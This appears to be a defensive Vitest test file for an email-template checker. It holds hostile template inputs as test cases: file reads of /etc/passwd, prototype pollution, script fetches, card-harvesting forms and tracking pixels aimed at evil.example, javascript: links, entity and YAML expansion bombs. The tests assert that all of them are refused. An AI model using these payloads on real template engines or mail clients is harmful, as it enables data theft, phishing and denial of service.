import { describe, expect, test } from 'vitest';
import { checkTemplate } from '../../src/letters/check/check.ts';
import { contentFaults } from '../../src/letters/check/content.ts';
import { ALLOWED_FILTERS, ALLOWED_TAGS, enginesFor } from '../../src/letters/language/liquid.ts';
import { localeOf } from '../../src/letters/language/locale.ts';
import { readPhrases } from '../../src/letters/language/phrases.ts';
import { BadTemplate, compileTemplate, type TemplateSource } from '../../src/letters/template/template.ts';
import { facts, samplesOf, sourceOf } from '../letters/letters.ts';

// An admin's template, as the worst one could write it: none may read, reach, run or fetch anything, nor keep us busy.
const shipped = await sourceOf('late', 'en');
const withIn = (mjml: string): TemplateSource => ({
  ...shipped,
  template: shipped.template.replace('</mj-body>', `${mjml}</mj-body>`),
});
const text = (inner: string): string =>
  `<mj-section><mj-column><mj-text>${inner}</mj-text></mj-column></mj-section>`;

describe('Liquid', () => {
  test('has a few tags and filters, and none that reads a file, sets a global or runs anything', () => {
    expect(ALLOWED_TAGS).toEqual(['assign', 'case', 'if', 'unless', 'for', 'break', 'continue']);
    expect(ALLOWED_FILTERS).toEqual(['capitalize', 'join', 'size', 'first', 'last', 'default']);
  });

  test.each([
    '{{ person.constructor.constructor }}',
    '{{ person.__proto__.polluted }}',
    '{{ items["constructor"] }}',
    '{{ process.env }}',
    '{{ globalThis }}',
    '{% assign a = items | map: "x" %}',
    '{% include "/etc/passwd" %}',
    '{% liquid assign a = 1 %}',
    '{{ person | where_exp: "p", "process" }}',
  ])('%s reaches nothing', async (token) => {
    const render = async () => (await compileTemplate(withIn(text(token)))).render(facts('late')).html;
    await expect(render()).rejects.toThrow(/undefined|undefined variable|not found|not survive|unexpected/i);
    expect(Object.prototype).not.toHaveProperty('polluted');
  });

  test('loops within loops are stopped, however plain each of them is', async () => {
    const read = readPhrases(shipped.phrases, 'en');
    if ('faults' in read) throw new Error('the shipped phrases are not sound');
    const engines = enginesFor(localeOf(shipped), read.phrases);
    const deep = (depth: number): string =>
      depth === 0 ? 'x' : `{% for i${depth} in items %}${deep(depth - 1)}{% endfor %}`;
    const items = Array.from({ length: 60 }, (_, at) => at);
    expect(() => engines.html.parse(deep(8))({ items, today: '2026-11-26' })).toThrow(/limit/);
    expect(engines.html.parse(deep(2))({ items, today: '2026-11-26' })).toHaveLength(3_600);
  });
});

describe('MJML', () => {
  test('includes no file', async () => {
    const html = await compileTemplate(withIn('<mj-include path="/etc/passwd" type="html" />')).then(
      (compiled) => compiled.render(facts('late')).html,
      (error: unknown) => String(error instanceof BadTemplate),
    );
    expect(html).not.toContain('root:');
  });

  test.each([
    '<mj-raw><script>fetch("//evil.example")</script></mj-raw>',
    text('<iframe title="x"></iframe>'),
    text('<form action="https://evil.example"><input name="card" /></form>'),
    text('<a href="javascript:alert(1)">pay</a>'),
    text('<a href="data:text/html,hello">pay</a>'),
    text('<b onmouseover="alert(1)">pay</b>'),
    text('<i style="background:url(https://evil.example/pixel)">x</i>'),
    text('<i style="background:u\\rl(https://evil.example/pixel)">x</i>'),
    '<mj-section background-url="https://evil.example/pixel"><mj-column></mj-column></mj-section>',
    '<mj-raw><meta http-equiv="refresh" content="0;url=https://evil.example" /></mj-raw>',
    '<mj-raw><svg onload="alert(1)"></svg></mj-raw>',
    text('<![CDATA[><form action="https://evil.example">]]>'),
    '<mj-raw><?x ><meta http-equiv="refresh" content="0;url=https://evil.example" /> ?></mj-raw>',
  ])('%s does not pass the check', async (mjml) => {
    expect((await contentFaults(withIn(mjml))).map(({ rule }) => rule)).toContain('active-content');
  });

  test.each([
    '<mj-html-attributes><mj-selector path=".what"><mj-html-attribute name="onclick">alert(1)</mj-html-attribute></mj-selector></mj-html-attributes>',
    '<mj-include path="/etc/passwd" />',
  ])('%s in the head does not either', async (mjml) => {
    const source = { ...shipped, template: shipped.template.replace('</mj-head>', `${mjml}</mj-head>`) };
    expect((await checkTemplate(source, [])).map(({ rule }) => rule)).toContain('mjml');
  });

  test.each([
    '<mj-social><mj-social-element name="facebook" href="https://x.example">f</mj-social-element></mj-social>',
    '<mj-accordion></mj-accordion>',
    '<mj-navbar></mj-navbar>',
  ])('%s does not either: MJML fetches its pictures', async (mjml) => {
    const source = withIn(`<mj-section><mj-column>${mjml}</mj-column></mj-section>`);
    expect((await checkTemplate(source, [])).map(({ rule }) => rule)).toContain('mjml');
  });

  test('a document of more than a megabyte is not looked into', async () => {
    const part = text('x').repeat(70_000);
    const large = { ...withIn(part), phrases: `${shipped.phrases}\n# ${'ż'.repeat(600_000)}` };
    const message = (megabytes: string) => `has ${megabytes} MB, and a document 1 MB at most: shorten it`;
    expect(await checkTemplate(large, [])).toEqual([
      { rule: 'size', file: 'emails/en/late.mjml', line: null, column: null, message: message('4.6') },
      { rule: 'size', file: 'emails/en/phrases.yaml', line: null, column: null, message: message('1.3') },
    ]);
  });

  test('a style that fetches does not either, and the shipped letters pass', async () => {
    const fetching = {
      ...shipped,
      template: shipped.template.replace(
        '</mj-head>',
        '<mj-style>@import "https://evil.example/a.css";</mj-style></mj-head>',
      ),
    };
    expect((await checkTemplate(fetching, [])).map(({ rule }) => rule)).toContain('active-content');
    expect(await checkTemplate(shipped, await samplesOf(shipped))).toEqual([]);
  });

  test('entities that grow without end are refused at once', async () => {
    const bomb = `<!DOCTYPE mjml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>${withIn(text('&b;')).template}`;
    await expect(compileTemplate({ ...shipped, template: bomb })).rejects.toThrow();
  });

  test('phrases that refer to themselves without end are refused at once', async () => {
    const bomb = `${shipped.phrases}\na: &a [x, x, x, x, x, x, x, x, x]\n${'bcdefghi'
      .split('')
      .map((name, at) => `${name}: &${name} [${Array(9).fill(`*${'abcdefgh'[at]}`).join(', ')}]`)
      .join('\n')}`;
    await expect(compileTemplate({ ...shipped, phrases: bomb })).rejects.toThrow();
  });
});
